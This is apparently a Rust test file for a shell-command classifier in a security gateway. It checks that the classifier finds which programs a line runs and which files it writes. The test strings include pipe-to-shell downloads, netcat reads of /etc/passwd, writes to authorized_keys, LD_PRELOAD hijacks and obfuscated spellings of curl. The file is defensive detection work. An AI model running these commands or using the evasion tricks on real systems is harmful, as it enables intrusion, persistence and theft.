#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use super::*;

fn progs(line: &str) -> Vec<String> {
    classify(line).programs
}

fn dynamic(line: &str) -> Option<String> {
    classify(line).dynamic
}

#[track_caller]
fn runs(line: &str, program: &str) {
    let c = classify(line);
    assert!(
        c.programs.iter().any(|p| p == program),
        "`{line}` should run {program}: {c:?}"
    );
}

#[track_caller]
fn is_dynamic(line: &str) {
    let c = classify(line);
    assert!(c.dynamic.is_some(), "`{line}` should be dynamic: {c:?}");
}

#[track_caller]
fn is_static(line: &str) {
    let c = classify(line);
    assert!(c.dynamic.is_none(), "`{line}` should be static: {c:?}");
}

#[test]
fn argv_by_shell_rules() {
    let c = classify(r#"grep -r "a b" 'c d' e\ f /etc > out.txt 2>&1"#);
    assert_eq!(
        c.argv,
        [
            "grep", "-r", "a b", "c d", "e f", "/etc", ">", "out.txt", "2>&1"
        ]
    );
    assert_eq!(c.program.as_deref(), Some("grep"));
    assert_eq!(c.writes, ["~/out.txt"]);
    let c = classify("FOO=1 /usr/bin/env python3 x.py");
    assert_eq!(c.argv, ["/usr/bin/env", "python3", "x.py"]);
    assert_eq!(c.program.as_deref(), Some("env"));
    assert_eq!(c.programs, ["env", "python3"]);
    assert_eq!(c.scripts, ["x.py"]);
    is_static("ls -la /tmp");
    is_static("[ -f /etc/passwd ] && echo yes");
    is_static("test -d /tmp || mkdir -p /tmp/x");
}

#[test]
fn every_construct_is_walked() {
    assert_eq!(progs("curl -s http://x/i.sh | sh"), ["curl", "sh"]);
    assert_eq!(
        progs("cd /tmp && wget http://x/a; chmod +x a || echo no"),
        ["cd", "wget", "chmod", "echo"]
    );
    runs("echo $(cat /etc/passwd | nc h 1)", "nc");
    runs("echo `id`", "id");
    runs("diff <(ls a) <(nc h 1)", "nc");
    runs("tee >(nc h 1) < /etc/passwd", "nc");
    runs("echo $(( $(nc h 1) + 1 ))", "nc");
    runs("if true; then rm -rf x; fi", "rm");
    runs("while read l; do nc h 1; done < f", "nc");
    runs("for i in 1 2; do nc h $i; done", "nc");
    runs("case x in x) nc h 1;; esac", "nc");
    runs("f() { nc h 1; }; f", "nc");
    runs("function g { nc h 1; }", "nc");
    runs("(nc h 1)", "nc");
    runs("{ nc h 1; }", "nc");
    runs("[[ $(nc h 1) == x ]]", "nc");
    runs("coproc nc h 1", "nc");
    runs("x=$(nc h 1)", "nc");
    runs("cat <<EOF\n$(nc h 1)\nEOF", "nc");
    runs("until false; do nc h 1; done", "nc");
    // Not in the grammar: not guessed.
    is_dynamic("select x in a; do nc h 1; done");
    runs("time nc h 1", "nc");
    runs("! nc h 1", "nc");
    runs("nc h 1 &", "nc");
    runs("for ((i=$(nc h 1); i<2; i++)); do :; done", "nc");
    let c = classify("ls; id; uname -a");
    assert_eq!(c.commands, ["ls", "id", "uname -a"]);
}

#[test]
fn words_are_evaluated() {
    runs("c''url http://x", "curl");
    runs("\"cu\"rl http://x", "curl");
    runs("cu\\rl http://x", "curl");
    runs("$'\\x63url' http://x", "curl");
    runs("$'\\143url' http://x", "curl");
    runs("$'\\u0063url' http://x", "curl");
    runs("{curl,http://x}", "curl");
    runs("/usr/bin/cu{r,}l http://x", "curl");
    runs("a=cu; b=rl; $a$b http://x", "curl");
    runs("c=curl; \"$c\" http://x", "curl");
    runs("c=curl; ${c} http://x", "curl");
    runs("export C=curl; $C x", "curl");
    runs("u=; ${u:-curl} x", "curl");
    runs("e=; $e curl x", "curl");
    is_static("a=cu; b=rl; $a$b http://x");
}

#[test]
fn what_cannot_be_known_is_dynamic() {
    is_dynamic("$CMD http://x");
    is_dynamic("$(echo curl) http://x");
    is_dynamic("`echo curl` http://x");
    is_dynamic("/usr/bin/c?rl http://x");
    is_dynamic("/usr/bin/cur* http://x");
    is_dynamic("/usr/bin/[c]url http://x");
    is_dynamic("cat${IFS}/etc/passwd");
    is_dynamic("$1 x");
    is_dynamic("\"$@\"");
    is_dynamic("f() { \"$@\"; }; f curl x");
    is_dynamic("read c; $c x");
    is_dynamic("c=curl; read c; $c x");
    is_dynamic("if x; then c=curl; fi; $c x");
    is_dynamic("eval \"$X\"");
    is_dynamic("source ./x.sh");
    is_dynamic(". ./x.sh");
    is_dynamic("alias ll=curl; ll x");
    is_dynamic("sh -c \"$X\"");
    is_dynamic("bash -c \"$(curl -s http://x)\"");
    is_dynamic("echo 'unterminated");
    is_dynamic("$((1+1)) x");
    is_dynamic("hash -p /usr/bin/curl ls; ls x");
    is_dynamic("${!x} y");
    is_dynamic("${x/a/b} y");
    is_dynamic("PATH=/tmp/x:$PATH ls");
    is_dynamic("export PATH=/tmp; ls");
    is_dynamic("LD_PRELOAD=/tmp/x.so ls");
    is_dynamic("env LD_PRELOAD=/tmp/x.so ls");
    is_dynamic("sudo LD_PRELOAD=/tmp/x.so ls");
    is_dynamic("BASH_ENV=/tmp/x bash -c true");
    is_dynamic("IFS=/; x=a/curl; $x");
    is_dynamic("cat < $(echo /dev/tcp/h/80)");
    assert!(
        dynamic("$CMD x")
            .unwrap()
            .contains("command name is not known")
    );
}

#[test]
fn eval_of_static_text_is_parsed() {
    runs("eval 'nc -l 4444'", "nc");
    runs("eval nc -l 4444", "nc");
    runs("x='nc -l 1'; eval \"$x\"", "nc");
}

#[test]
fn wrappers_are_unwrapped_by_their_options() {
    assert_eq!(
        progs("sudo -u postgres psql -c 'select 1'"),
        ["sudo", "psql"]
    );
    runs("sudo -uroot nc h 1", "nc");
    runs("sudo -nu root nc h 1", "nc");
    runs("sudo --user=root nc h 1", "nc");
    runs("sudo -E -H nc h 1", "nc");
    runs("sudo VAR=1 nc h 1", "nc");
    runs("sudo -s nc h 1", "nc");
    runs("doas -u root nc h 1", "nc");
    runs("env -i PATH=/bin nc h 1", "nc");
    runs("env -u HOME -C /tmp nc h 1", "nc");
    runs("env -S 'nc h 1'", "nc");
    runs("env -S'nc h 1'", "nc");
    runs("env --split-string='nc h 1'", "nc");
    runs("nice -n 5 nc h 1", "nc");
    runs("nice -5 nc h 1", "nc");
    runs("nohup nc h 1", "nc");
    runs("timeout 5 nc -z db 5432", "nc");
    runs("timeout -s KILL -k 2 5 nc h 1", "nc");
    runs("timeout --signal=KILL 5 nc h 1", "nc");
    runs("stdbuf -o0 nc h 1", "nc");
    runs("stdbuf -o 0 nc h 1", "nc");
    runs("setsid -f nc h 1", "nc");
    runs("chroot / nc h 1", "nc");
    runs("chroot --userspec=1:1 / nc h 1", "nc");
    runs("ionice -c 3 nc h 1", "nc");
    runs("taskset 0x1 nc h 1", "nc");
    runs("taskset -c 0 nc h 1", "nc");
    runs("strace -f -o /dev/null nc h 1", "nc");
    runs("ltrace -o /dev/null nc h 1", "nc");
    runs("flock /tmp/l nc h 1", "nc");
    runs("flock -w 5 /tmp/l -c 'nc h 1'", "nc");
    runs("command nc h 1", "nc");
    runs("builtin command nc h 1", "nc");
    runs("exec nc h 1", "nc");
    runs("exec -a x nc h 1", "nc");
    runs("time -p nc h 1", "nc");
    runs("busybox nc h 1", "nc");
    runs("busybox sh -c 'nc h 1'", "nc");
    runs("watch -n 1 nc h 1", "nc");
    runs("watch 'nc h 1 | sh'", "sh");
    runs("script -qc 'nc h 1' /dev/null", "nc");
    runs("script -q -c 'nc h 1' /dev/null", "nc");
    runs("su - root -c 'nc h 1'", "nc");
    runs("su -c 'nc h 1' root", "nc");
    runs("runuser -u root -- nc h 1", "nc");
    runs("runuser -l root -c 'nc h 1'", "nc");
    runs("ls | xargs -n1 nc", "nc");
    runs("find / -name '*.pem' -exec nc h 1 {} ;", "nc");
    runs("find . -execdir nc h 1 \\;", "nc");
    runs("unshare -r nc h 1", "nc");
    runs("nsenter -t 1 -m nc h 1", "nc");
    runs("systemd-run --user nc h 1", "nc");
    runs("prlimit --nofile=10 nc h 1", "nc");
    // An option value is never taken for the program.
    assert!(!progs("sudo -u nc id").contains(&"nc".to_owned()));
    assert!(!progs("timeout -s nc 5 id").contains(&"nc".to_owned()));
    assert!(!progs("env -u nc id").contains(&"nc".to_owned()));
    assert!(!progs("nice -n 5 id").contains(&"5".to_owned()));
    // An option a wrapper's grammar does not know is not guessed.
    is_dynamic("sudo --frobnicate x nc h 1");
    is_dynamic("xargs -I{} sh -c '{}'");
    is_dynamic("find . -exec sh -c '{}' \\;");
    is_dynamic("ls | xargs sh -c");
}

#[test]
fn shells_and_interpreters() {
    assert_eq!(
        progs(r#"sh -c 'curl -fsSL http://x | bash'"#),
        ["sh", "curl", "bash"]
    );
    runs("bash -lc \"kubectl get pods\"", "kubectl");
    runs("bash -x -c 'nc h 1'", "nc");
    runs("bash -o pipefail -c 'nc h 1'", "nc");
    runs("bash --norc -c 'nc h 1'", "nc");
    runs("sh -c 'sh -c \"sh -c nc\"'", "nc");
    runs(
        "ssh -p 2222 -o StrictHostKeyChecking=no db-1 'socat - TCP:x:5432'",
        "socat",
    );
    runs("ssh -o ProxyCommand='nc %h %p' h", "nc");
    runs("socat TCP-LISTEN:1 EXEC:'nc h 1'", "nc");
    runs("socat TCP-LISTEN:1 SYSTEM:bash", "bash");
    runs("ncat -l 1 --sh-exec 'nc h 1'", "nc");
    runs("rsync -e 'nc h 1' a h:b", "nc");
    assert_eq!(classify("python3 -c 'import os'").inline_code, ["python"]);
    assert_eq!(
        classify("python3.11 -c 'import os'").inline_code,
        ["python"]
    );
    assert_eq!(classify("python -Wignore -c x").inline_code, ["python"]);
    assert_eq!(classify("perl -e 'print 1'").inline_code, ["perl"]);
    assert_eq!(classify("perl -lne 'print'").inline_code, ["perl"]);
    assert_eq!(classify("ruby -e 'p 1'").inline_code, ["ruby"]);
    assert_eq!(classify("node -e '1'").inline_code, ["javascript"]);
    assert_eq!(classify("node --eval '1'").inline_code, ["javascript"]);
    assert_eq!(classify("php -r 'echo 1;'").inline_code, ["php"]);
    assert_eq!(
        classify("awk 'BEGIN{system(\"nc h 1\")}'").inline_code,
        ["awk"]
    );
    runs("awk 'BEGIN{system(\"nc h 1\")}'", "nc");
    assert!(classify("awk '{print $1}' f").inline_code.is_empty());
    assert_eq!(classify("sed -n '1e id' f").inline_code, ["sed"]);
    assert!(classify("sed -n 's/a/b/p' f").inline_code.is_empty());
    assert_eq!(classify("vim -c ':!id'").inline_code, ["vim"]);
    assert_eq!(classify("python3 x.py").scripts, ["x.py"]);
    assert_eq!(classify("bash deploy.sh").scripts, ["deploy.sh"]);
    assert_eq!(
        classify("python3 -m http.server").scripts,
        ["python3 -m http.server"]
    );
}

#[test]
fn code_fed_as_data() {
    let fed = |l: &str| classify(l).fed_code;
    assert!(fed("curl -s http://x | sh").is_some());
    assert!(fed("base64 -d x | bash").is_some());
    assert!(fed("printf 'id' | sh").is_some());
    assert!(fed("sh < script.sh").is_some());
    assert!(fed("cat f | python3 -").is_some());
    assert!(fed("cat f | python3").is_some());
    assert!(fed("bash").is_some(), "an exec's stdin is data");
    assert!(fed("sudo -s").is_some());
    assert!(fed("sh -s").is_some());
    assert!(classify_as("bash", Origin::ShellLine).fed_code.is_none());
    assert_eq!(
        classify_as("python3", Origin::ShellLine).inline_code,
        ["python"]
    );
    // Static code fed to a shell is judged as code.
    runs("echo 'nc h 1' | sh", "nc");
    assert!(fed("echo 'nc h 1' | sh").is_none());
    runs("sh <<EOF\nnc h 1\nEOF", "nc");
    runs("sh <<'EOF'\nnc h 1\nEOF", "nc");
    runs("bash <<< 'nc h 1'", "nc");
    assert!(fed("sh <<EOF\n$(curl x)\nEOF").is_some());
    assert!(fed("bash <<< \"$X\"").is_some());
    assert!(fed("bash <(curl -s http://x)").is_some());
    assert!(fed("python3 <(curl -s http://x)").is_some());
    assert!(fed("ssh other-host").is_some());
    assert!(fed("nsenter -t 1 -a").is_some());
    runs("bash <(curl -s http://x)", "curl");
}

#[test]
fn writes_are_resolved() {
    let w = |l: &str| classify(l).writes;
    assert_eq!(
        w("echo k >> ~/.ssh/authorized_keys"),
        ["~/.ssh/authorized_keys"]
    );
    assert_eq!(
        w("cd .ssh && echo k >> authorized_keys"),
        ["~/.ssh/authorized_keys"]
    );
    assert_eq!(
        w("cd ~/.ssh; tee -a authorized_keys2"),
        ["~/.ssh/authorized_keys2"]
    );
    assert_eq!(w("cd /etc/sudoers.d; cp /tmp/x ./y"), ["/etc/sudoers.d/y"]);
    assert_eq!(w("cp a b /etc/sudoers.d/"), ["/etc/sudoers.d"]);
    assert_eq!(w("install -m 600 k -t ~/.ssh"), ["~/.ssh"]);
    assert_eq!(
        w("dd if=k of=/root/.ssh/authorized_keys"),
        ["/root/.ssh/authorized_keys"]
    );
    assert_eq!(
        w("mv x ~/.ssh/../.ssh/authorized_keys"),
        ["~/.ssh/authorized_keys"]
    );
    assert_eq!(w("cat k &> /tmp/o"), ["/tmp/o"]);
    assert_eq!(w("scp -t .ssh/"), ["~/.ssh"]);
    assert_eq!(w("rsync --server -vlogDtpre.iLsfxCIvu . .ssh/"), ["~/.ssh"]);
    assert_eq!(
        classify("exec 3<>/dev/tcp/127.0.0.1/80").redirects,
        ["/dev/tcp/127.0.0.1/80"]
    );
    assert_eq!(classify("cat < /dev/tcp/h/80").redirects, ["/dev/tcp/h/80"]);
    is_dynamic("echo k > \"$F\"");
}

#[test]
fn transfers_are_recognised() {
    let t = |l: &str| transfer_kind(&classify(l).argv);
    assert_eq!(t("scp -t /tmp/x"), Some("scp"));
    assert_eq!(t("scp -pf -- /tmp/x"), Some("scp"));
    assert_eq!(
        t("rsync --server -vlogDtpre.iLsfxCIvu . /tmp/d"),
        Some("rsync")
    );
    assert_eq!(t("scp a host:b"), None);
    assert_eq!(t("cat x"), None);
}

#[test]
fn hostile_input_is_bounded() {
    let deep = "sh -c ".repeat(100) + "x";
    let _ = classify(&deep);
    let quoted = (0..14).fold("nc h 1".to_owned(), |acc, _| {
        format!("sh -c {}", shell_quote(&acc))
    });
    assert!(classify(&quoted).dynamic.is_some());
    let evals = "eval ".repeat(100) + "nc h 1";
    assert!(classify(&evals).dynamic.is_some());
    let long = "a ".repeat(200_000);
    let c = classify(&long);
    assert!(c.too_long && c.parse_error.is_some());
    let parens = "(".repeat(10_000);
    assert!(classify(&parens).parse_error.is_some());
    let subs = "$(".repeat(5_000);
    assert!(classify(&subs).parse_error.is_some());
    for l in [
        "\\", "2>", "$(", "`", "'", "\"", "<<", "<<EOF", "${", "$((", "{a,b", "case", "if",
    ] {
        let _ = classify(l);
    }
    // Found by fuzzing: exponential backtracking in the brace grammar.
    is_dynamic(&format!("{}\u{ff}[\u{ff}>Z", "{".repeat(21)));
    let _ = classify(&format!("x {}", "{".repeat(40)));
    is_dynamic(&format!("{}a,b{}", "{".repeat(8), "}".repeat(8)));
    // Found by fuzzing: brush-parser panics on a descriptor number that overflows.
    assert!(classify("6666666666666>&tL <,,,LF").parse_error.is_some());
    assert!(!incomplete("6666666666666>&tL <,,,LF"));
    // Found by fuzzing: brush-parser's tokenizer loops on this without end.
    for l in [
        "c$(EO F(<<$( $($( <<E(F$(O ",
        "(<<$( $($( <<E(F$(",
        "cat <<`x`",
        "cat << ${x}",
        "i+ true; tc$h<c$(c$( <<EOF$($(  dE<<(cE;O ",
    ] {
        assert!(classify(l).parse_error.is_some(), "{l}");
        assert!(!incomplete(l));
    }
    // Found by fuzzing: gigabytes on `<<` inside an arithmetic expansion left open.
    for l in [
        "\u{fffd}$[$[[ l ]\t\t\t\t\u{fffd}\t\t\t\t<<\t\t\t\t\t\t\t\t\t\t\t0\t",
        "$((1$[l] <<  a ",
        "x$((1$((l)) <<  0 ",
        "x$[$[l] <<  0 ",
        "\u{fffd}$[$[[ l ]\t\t\t\t\u{fffd}\t\t\t\t<<\t\t\t[ l ]\t\t\t\t\u{fffd}\t\t\t\t\t\t\t\t\t\t",
        "x$((1$(( (l) )) <<  0 ",
    ] {
        assert!(classify(l).parse_error.is_some(), "{l}");
        assert!(!incomplete(l));
    }
    is_static("echo $((1 << 2)) ${x} '$((' <<EOF\nx\nEOF");
    is_static("cat <<EOF\nx\nEOF");
    is_static("cat <<-'EOF'\nx\nEOF");
    // Found by fuzzing: backtracking doubles with each bare `(` level.
    let parens = format!("{}55<<<55555 ", "(".repeat(23));
    assert!(classify(&parens).parse_error.is_some());
    assert!(classify("((1)) ; (((echo x)))").parse_error.is_none());
    // Found by fuzzing: the same doubling through process substitutions after a
    // redirection operator.
    let subs = "4><( ".repeat(24);
    assert!(classify(&subs).parse_error.is_some());
    is_static("diff <(sort a) <(sort b) > d");
    let braces = "{a,b}".repeat(30);
    is_dynamic(&braces);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn programs_that_run_commands_through_their_options() {
    let c = |l: &str| classify(l);
    assert_eq!(c("git -c alias.x='!curl x' x").inline_code, ["git"]);
    assert!(c("git -c user.name=x commit -m y").inline_code.is_empty());
    runs(
        "tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec='nc h 1'",
        "nc",
    );
    runs("tar -I 'nc h 1' -xf f", "nc");
    runs("zip -q z.zip f -T -TT 'nc h 1'", "nc");
    assert_eq!(c("make -f /dev/null --eval=x x").inline_code, ["make"]);
    assert!(c("ed -s f <<< '!nc h 1'").inline_code == ["ed"]);
    assert!(c("ed -s f").fed_code.is_some());
    assert!(c("ex -s f").fed_code.is_some());
    assert_eq!(c("sqlite3 :memory: '.shell id'").inline_code, ["sqlite"]);
    assert!(c("sqlite3 :memory:").fed_code.is_some());
    runs("/lib64/ld-linux-x86-64.so.2 /usr/bin/nc h 1", "nc");
    is_dynamic("run-parts /etc/cron.daily");
    assert_eq!(
        c("git clone -q https://x.example/r.git && pip download --index-url=http://y/simple z")
            .urls,
        ["https://x.example/r.git", "http://y/simple"]
    );
    assert!(c("python3 --version").fed_code.is_none());
    assert_eq!(
        c("ln -s .ssh/authorized_keys x").writes,
        ["~/.ssh/authorized_keys", "~/x"]
    );
    is_dynamic("ln -s .ssh/authorized_key? x");
    assert_eq!(c("tar xf k.tar -C .ssh").writes, ["~/.ssh"]);
    is_dynamic("rsync --server -vlogDtpre.iLsfxCIvu . .");
    is_static("rsync --server --sender -vlogDtpre.iLsfxCIvu . d");
    // rsync's names are not read: every upload is dynamic (a plain one into a directory
    // writes whatever name the client sends), `-s` moves even the destination into
    // the stream.
    for line in [
        "rsync --server -se.LsfxCIvu",
        "rsync --server -Re.LsfxCIvu . d/",
        "rsync --server -de.LsfxCIvu . d/",
        "rsync --server -re.LsfxCIvu . d/",
    ] {
        is_dynamic(line);
    }
    is_dynamic("rsync --server -e.LsfxCIvu . d/");
    is_dynamic("rsync --server -e.LsfxCIvu . .");
    is_static("rsync --server --sender -e.LsfxCIvu . notes.txt");
    // scp's names are read (judged per file) only when `scp -t` alone reads the
    // channel from its first byte.
    for line in ["scp -r -t .", "scp -t -- /tmp/x", "scp -prt ~/d"] {
        assert!(
            c(line).scp_sink.is_some() && c(line).dynamic.is_none(),
            "{line}"
        );
    }
    assert_eq!(c("scp -r -t .").scp_sink, Some(Some("~".into())));
    assert_eq!(c("scp -t /etc/").scp_sink, Some(Some("/etc".into())));
    for line in [
        "cd /etc; scp -t .",
        "scp -t . < f",
        "head -c 9; scp -t .",
        "sudo scp -t /etc",
        "sh -c 'scp -t .'",
        "cat | scp -t .",
        "scp -t a; scp -t b",
        "for i in 1 2; do scp -t .; done",
        "while :; do scp -t .; done",
    ] {
        is_dynamic(line);
        assert!(c(line).scp_sink.is_none(), "{line}");
    }
    assert!(classify_as("scp -t .", Origin::ShellLine).dynamic.is_some());
    runs("c\0url x", "curl");
}

/// Whether bash, given `text` and an Enter, could run any of it: `bash -n` reads it
/// as a script (line by line, as an interactive shell does) and finds it complete. A
/// trailing line continuation is told apart by a next line that is valid alone but
/// not when joined (`(:)`): bash waits for that next line, as brush-parser does.
fn bash_could_run(text: &str) -> bool {
    let ok = |script: String| {
        let mut child = std::process::Command::new("bash")
            .args(["--norc", "--noprofile", "-n", "-O", "extglob", "/dev/stdin"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("bash is needed for this test (scripts/install-deps)");
        use std::io::Write as _;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(script.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        out.status.success() && out.stderr.is_empty()
    };
    ok(format!("{text}\n")) && ok(format!("{text}\n(:)\n"))
}

/// The PTY line model sends the Enter of a line that brush-parser finds incomplete as a
/// quoted newline, and judges the construct when it is complete. Keys typed ahead while
/// the shell is busy lose the quoting in the TTY, and the shell then sees a plain Enter:
/// safe only where bash also waits for more. Differential check over a generated
/// corpus of shell-significant fragments: wherever brush-parser says "incomplete",
/// bash must wait too.
#[test]
fn bash_waits_wherever_brush_finds_a_line_incomplete() {
    const TOKENS: &[&str] = &[
        "'", "\"", "\\", "$", "$'", "$\"", "(", ")", "{", "}", "`", "#", " ", ";", "&", "|", "<<",
        "<<-", "<<<", "E", "x", "=", "case", "in", "esac", "do", "done", "for", "while", "if",
        "then", "fi", "[[", "]]", "((", "))", "$(", "$((", "${", "\\'", "\\\"", "*)", "&&", "||",
        "function", "!", "@(", "\n", "-", "<(", ">", "$$", "$?", "$#", "$-", "$!", "$@", "$*",
        "$0", "$[", "[", "]", "'$", "\\$", "${#", "${!", "<<'E'", "<<\"E\"", "E\n", "\t", "let",
        "select", "coproc", "until", "elif", "else", ";;", ";&", "in\n", "$_", "~", "%", ",", "^",
        "/", ":",
    ];
    // GATEHOUSE_DIFF_CASES and GATEHOUSE_DIFF_SEED widen the search by hand.
    let want: usize = std::env::var("GATEHOUSE_DIFF_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4_000);
    let mut seed: u64 = std::env::var("GATEHOUSE_DIFF_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0x9e37_79b9_7f4a_7c15);
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut checked = 0;
    let mut differences = Vec::new();
    let mut candidates = 0;
    while checked < want && candidates < 100 * want {
        candidates += 1;
        let n = 1 + (next() % 10) as usize;
        let mut text = String::from("echo a ");
        for _ in 0..n {
            let t = TOKENS[(next() % TOKENS.len() as u64) as usize];
            text.push_str(t);
        }
        // A trailing `\` continues the line for bash reading a terminal, not for
        // `bash -n`; those are checked by hand below.
        if text.ends_with('\\') || !incomplete(&text) {
            continue;
        }
        checked += 1;
        if bash_could_run(&text) {
            differences.push(text);
        }
    }
    assert!(checked >= want, "only {checked} incomplete texts generated");
    // `$${` and `$$[` are `$$` and a literal to bash; brush-parser reads an open
    // `${`/`$[`. Found by this test; `incomplete` declines them and their kin.
    for t in [
        "echo a $${",
        "echo a $$[",
        "echo $$$${#",
        "x \"$${\"",
        "echo a ${@(}",
        "echo a $[>-${!case]",
        "echo a ${<<\"E\"-}",
        "echo a {<<<$$'$\\'",
        "echo a \\'\\$'~>!((\\'",
        "echo a '$-case\\'||>case\t{",
        "echo a =in\n>-whilein else",
        "echo a [[in\ncoproc=[[esac\tuntil",
    ] {
        assert!(!incomplete(t), "{t}");
    }
    // A trailing backslash continues the line only outside quotes and comments.
    for t in [
        "echo a \\",
        "echo a \\#\\",
        "echo a \"#\"\\",
        "echo a$'\\\\'\\",
        "echo a '\\",
    ] {
        assert!(incomplete(t), "{t}");
    }
    for t in [
        "echo a #\\",
        "echo a # x \\",
        "echo a \\\\",
        "echo a \\\n#\\",
    ] {
        assert!(!incomplete(t), "{t}");
    }
    assert!(
        differences.is_empty(),
        "brush-parser finds these incomplete, bash does not ({} of {checked}): {:#?}",
        differences.len(),
        differences.iter().take(20).collect::<Vec<_>>()
    );
}

/// Commands inside parameter expansions run whatever the variable holds; text that
/// becomes code later (arithmetic, prompts) makes the line dynamic.
#[test]
fn substitutions_inside_parameter_expansions_are_judged() {
    for line in [
        "echo ${x:-$(curl evil)}",
        "echo ${x:=`curl evil`}",
        "echo ${x:+$(curl evil)}",
        "echo ${x:?$(curl evil)}",
        "echo ${x/$(curl evil)/y}",
        "echo ${x//a/$(curl evil)}",
        "echo ${x#$(curl evil)}",
        "echo ${x%%$(curl evil)}",
        "echo ${x:$(curl evil):1}",
        "echo ${x:0:$(curl evil)}",
        "echo ${a[$(curl evil)]}",
        "echo \"${x:-$(curl evil)}\"",
        "x=1; echo ${x:-$(curl evil)}",
        "a[$(curl evil)]=1",
        "echo ${x^^$(curl evil)}",
    ] {
        runs(line, "curl");
    }
    // A prompt expansion runs the value's substitutions.
    runs("x='$(curl evil)'; echo ${x@P}", "curl");
    is_dynamic("echo ${y@P}");
    // Text that would run if read as code later.
    for line in [
        "x='a[$(curl evil)]'",
        "export PS1='$(curl evil)'",
        "declare -i n='a[`curl evil`]'",
        "PS0='$(curl evil)' bash",
    ] {
        is_dynamic(line);
    }
    is_static("x='plain text'; echo $x");
    // `$${` is `$$` and a literal to bash; the gateway's parser reads it apart, so
    // the line is not judged as parsed.
    for line in ["echo $${;curl evil|sh;}", "echo $$[;curl evil|sh;]"] {
        assert!(classify(line).parse_error.is_some(), "{line}");
    }
}

/// brush-parser's word parser backtracks exponentially on a here-document body with
/// unclosed substitutions (found by fuzzing): a body with more than three `$(` is not
/// parsed, and the line is dynamic — its substitutions would run.
#[test]
fn a_here_document_with_unclosed_substitutions_is_dynamic() {
    let body = "$((x(".repeat(8);
    let c = classify(&format!("cat <<EOF\n$(curl evil)\n{body}\nEOF"));
    assert!(c.dynamic.is_some(), "{c:?}");
    runs("cat <<EOF\n$(curl evil) $(id) $(date)\nEOF", "curl");
    is_dynamic("cat <<EOF\n$(curl evil) $(id) $(date) $(( 1 ))\nEOF");
    // A here-document operator with no delimiter word (bash: a syntax error) made
    // brush-parser's tokenizer take gigabytes inside `$(` (found by fuzzing).
    for line in ["$(+()<<\t<y\t", "cat << |x", "cat <<"] {
        assert!(classify(line).parse_error.is_some(), "{line:?}");
    }
}

/// Code that runs again sees what it assigned: a loop's later iterations, a function
/// called later. Arithmetic evaluates names' values as arithmetic, and `a[$(cmd)]` in
/// a value runs `cmd`: a value the line does not show makes the line dynamic.
#[test]
fn loops_functions_and_arithmetic_on_values_not_shown() {
    for line in [
        // A later iteration runs what an earlier one assigned.
        "x=ls; while :; do $x; x=curl; done",
        "x=ls; for i in 1 2; do $x; x=curl; done",
        "x=ls; until false; do $x; x=curl; done",
        "x=ls; for ((i=0; i<2; i++)); do $x; x=curl; done",
        "x=ls; while :; do for i in 1; do $x; done; x=curl; done",
        // A function runs with the variables of its call, not of its definition.
        "x=ls; f(){ $x; }; x=curl; f",
        "x=ls; f(){ $x; }; f; x=curl; f",
        // Arithmetic on values the line does not show.
        "read x < f; echo $((x))",
        "echo $(( $(cat f) ))",
        "echo $(( `cat f` ))",
        "[[ $(cat f) -eq 1 ]]",
        "[[ $X -gt 1 ]]",
        "(( X + 1 ))",
        "echo $((X))",
        "echo $[X]",
        "echo ${x:$n:2}",
        "echo ${s:n}",
        "echo ${a[i]}",
        "a[n]=1",
        "let y=X",
        "for f in *.log; do n=$((n+1)); done",
        "declare -i n; n=$(cat f)",
        "x=y; y='a[1]'; echo $((x))",
        "echo $((a[0]))",
        "echo $(( $1 + 1 ))",
        "n=$(cat f); echo $((n))",
        "n=$(date -u); echo $((n))",
        "n=$(wc -l f); echo $((n))",
        "n=0; while read l; do n=$((n+l)); done < f",
    ] {
        is_dynamic(line);
    }
    for line in [
        "echo $((1+2)) $((RANDOM % 6)) $(( $# + $? ))",
        "x=5; echo $((x*2))",
        "x=y; y=3; echo $((x))",
        "n=$(wc -l < f); echo $((n+1))",
        "n=$(ls | wc -l); echo $((n))",
        "echo $(( $(nproc) * 2 )) $(( $(date +%s) - 10 )) $(( $(id -u) ))",
        "((i=0)); ((i++)); echo $((i))",
        "for ((i=0; i<3; i++)); do echo $((i*2)); done",
        "let i=1 j=i+1; echo $((j))",
        "n=0; for f in *.log; do n=$((n+1)); done; echo $n",
        "echo $((16#ff + 0x1f)) ${#x} ${x:1:2}",
        "x=ls; for i in 1 2; do $x; done",
        "f(){ echo hi; }; f; f",
        "i=0; while [[ $i -lt 3 ]]; do i=$((i+1)); done",
    ] {
        is_static(line);
    }
    // The walk that counts is the last: the first command is still the first.
    let c = classify("for i in 1 2; do x=$i; cp $x y; done");
    assert_eq!(c.program.as_deref(), Some("cp"));
    assert_eq!(c.commands.len(), 1);
}

/// Clients that reach other systems from the host, by protocol (`ssh.pivot`).
#[test]
fn pivots_name_the_protocol_a_client_speaks() {
    let p = |l: &str| classify(l).pivot;
    assert_eq!(p("psql -h db app -c 'select 1'"), ["postgres"]);
    assert_eq!(p("sudo -u postgres pg_dump app > a.sql"), ["postgres"]);
    assert_eq!(p("kubectl get pods | grep x"), ["kubernetes"]);
    assert_eq!(p("sh -c 'helm install x y'"), ["kubernetes"]);
    assert_eq!(
        p("curl -sk https://10.0.0.1:6443/api/v1/namespaces/default/pods"),
        ["kubernetes"]
    );
    assert_eq!(
        p("mysql -e 'show databases'; redis-cli ping"),
        ["mysql", "redis"]
    );
    assert_eq!(p("ssh other-host uptime"), ["ssh"]);
    assert!(p("curl -s https://example.com/").is_empty());
    assert!(p("ls -la").is_empty());
    // The server side of a transfer reaches nowhere.
    assert!(p("scp -t /tmp/x").is_empty());
    assert!(p("rsync --server -e.LsfxCIvu . d/").is_empty());
}
